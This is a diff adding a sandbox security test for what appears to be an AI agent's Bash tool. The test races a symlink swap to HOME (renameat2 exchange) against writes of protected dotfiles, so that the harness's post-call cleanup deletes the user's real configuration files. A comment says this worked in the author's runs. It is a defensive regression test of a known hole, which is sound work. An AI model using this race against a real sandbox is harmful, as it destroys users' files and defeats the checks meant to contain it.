@@ -379,6 +379,81 @@ test(
   },
 );
 
+// End to end: two sandboxed Bash calls of one session at once (parallel tool calls, or a background
+// task): the first exchanges `w` with `wl -> <the person's HOME>` for 30 s; each of the second kind writes
+// HOME's protected names (`.bashrc`, `.zprofile`, `.hgrc`, …) into whichever of the two is the real
+// directory and ends — and the check after ITS call removes what it wrote, by path, while the first
+// call's exchanges go on. In my runs the second or third writer call made the worker remove
+// `~/.zprofile` and `~/.hgrc`.
+
+const P5_NAMES = [
+  '.gitconfig',
+  '.bashrc',
+  '.bash_profile',
+  '.zshrc',
+  '.zprofile',
+  '.profile',
+  '.zshenv',
+  '.bash_aliases',
+  '.bash_logout',
+  '.envrc',
+  '.npmrc',
+  '.yarnrc',
+  '.claude.json',
+  '.mcp.json',
+  '.hgrc',
+  '.pylintrc',
+  '.irbrc',
+  '.Rprofile',
+];
+
+test(
+  'P5 (dontAsk, end to end): a long sandboxed call exchanging its directory with a symlink to HOME, beside calls writing protected names there — the worker removes nothing of HOME',
+  hole('P5 (end to end): the check after a call removes by path while another call of the session swaps the path'),
+  async (t) => {
+    if (skip) return t.skip(skip);
+    const person = path.join(base, 'p5-person');
+    mkdirSync(person, { recursive: true });
+    for (const f of P5_NAMES) writeFileSync(path.join(person, f), `the person's ${f}\n`);
+    const root = path.join(base, 'p5e');
+    mkdirSync(path.join(root, 'w'), { recursive: true });
+    const flipper = tool(root, 'dontAsk', 'Bash', {
+      timeout: 120_000,
+      command: [
+        `ln -s ${person} wl && /usr/bin/python3 - <<'PY'`,
+        'import ctypes, time',
+        'libc = ctypes.CDLL(None)',
+        'end = time.time() + 30',
+        'while time.time() < end:',
+        "    libc.renameat2(-100, b'w', -100, b'wl', 2)",
+        'PY',
+      ].join('\n'),
+    });
+    await new Promise((r) => setTimeout(r, 1500));
+    const writer = [
+      "/usr/bin/python3 - <<'PY'",
+      'import os',
+      `for n in ${JSON.stringify(P5_NAMES)}:`,
+      '    for i in range(200):',
+      '        done = False',
+      "        for d in ('w', 'wl'):",
+      '            try:',
+      "                fd = os.open(d + '/' + n, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644); os.write(fd, b'x'); os.close(fd); done = True; break",
+      '            except OSError: pass',
+      '        if done: break',
+      'PY',
+    ].join('\n');
+    const gone = () => P5_NAMES.filter((f) => !existsSync(path.join(person, f)));
+    for (let i = 0; i < 12 && gone().length === 0; i++) {
+      const out = await tool(root, 'dontAsk', 'Bash', { command: writer });
+      t.diagnostic(`writer ${i + 1}: ${out.text.slice(0, 200)}`);
+    }
+    const removed = gone();
+    await flipper;
+    assert.deepEqual({ removedInHome: removed }, { removedInHome: [] });
+  },
+);
+
 // ---------------------------------------------------------------------------------------------------
 // P6 (contained): N4's consumer with a watched directory moved under the live guard — renamed,
 // exchanged with another (renameat2 RENAME_EXCHANGE), renamed with its parent — before the command
